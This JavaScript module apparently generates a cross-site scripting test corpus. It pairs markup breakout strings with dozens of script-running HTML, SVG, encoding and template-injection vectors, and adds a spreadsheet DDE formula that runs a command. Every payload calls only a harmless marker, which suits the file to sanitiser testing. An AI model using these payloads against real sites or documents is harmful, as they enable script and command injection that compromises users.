// What an attacker would write into a sheet, a file name or an address, so that a page runs it.

/** What a payload calls; a page that has no such function says so, which is noticed, too. */
const call = (n) => `ran(${n})`;

/** What ends the element or attribute that a careless template would have put the text into. */
const ESCAPES = ['', '">', "'>", '</title>', '</script>', '--></textarea></style>'];

/** Markup that runs a script by itself, or when the page is looked at. */
const VECTORS = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT >`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img/src=x/onerror="${js}">`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<body onload=${js}>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<div tabindex=1 autofocus onfocus=${js}>`,
  (js) => `<marquee onstart=${js}>`,
  (js) => `<x onanimationstart=${js} style="animation:a 1s"><style>@keyframes a{}</style>`,
  (js) => `<style>@import"data:text/css,*{color:red}";</style><b onclick=${js}>`,
  (js) => `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${js}>`,
  (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  (js) => `<base href="https://attacker.invalid/"><script>${js}</script>`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
];

/** Payloads that work in one kind of place only. */
const PARTICULAR = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}//`,
  (js) => `java\tscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `//attacker.invalid/${js}`,
  (js) => `" onmouseover=${js} x="`,
  (js) => `' onmouseover=${js} x='`,
  (js) => `" autofocus onfocus=${js} x="`,
  (js) => `x onfocus=${js} autofocus`,
  (js) => `"><a href="javascript:${js}">x</a>`,
  (js) => `\`;${js};\``,
  (js) => `";${js};//`,
  (js) => `';${js};//`,
  (js) => `"};${js};//`,
  (js) => `*/${js}/*`,
  (js) => `\\";${js};//`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `&quot;&gt;&lt;img src=x onerror=${js}&gt;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `%253Cscript%253E${js}%253C/script%253E`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `＂＞＜img src=x onerror=${js}＞`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<!--<script>${js}--></script>`,
  (js) => `<![CDATA[<script>${js}</script>]]>`,
  (js) => `]]><script>${js}</script>`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?>`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `{%raw%}<script>${js}</script>{%endraw%}`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `<mark><script>${js}</script></mark>`,
  (js) => `窓口<img src=x onerror=${js}>サービス`,
  (js) => `=cmd|'/c ${js}'!A1`,
];

/** Each payload calls `ran` with its own place in the list. */
export const PAYLOADS = [
  ...VECTORS.flatMap((vector) => ESCAPES.map((escape) => (js) => escape + vector(js))),
  ...PARTICULAR,
].map((payload, n) => payload(call(n)));
